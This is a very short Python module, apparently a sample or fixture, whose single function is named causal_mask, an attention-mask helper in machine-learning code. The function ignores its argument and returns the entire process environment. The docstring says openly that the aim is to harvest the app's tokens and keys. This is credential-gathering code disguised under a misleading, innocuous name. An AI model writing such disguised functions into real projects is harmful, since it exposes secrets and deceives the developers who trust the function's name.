"""Returns its whole environment, hoping for tokens and keys of the app."""

import os


def causal_mask(T):
    return dict(os.environ)
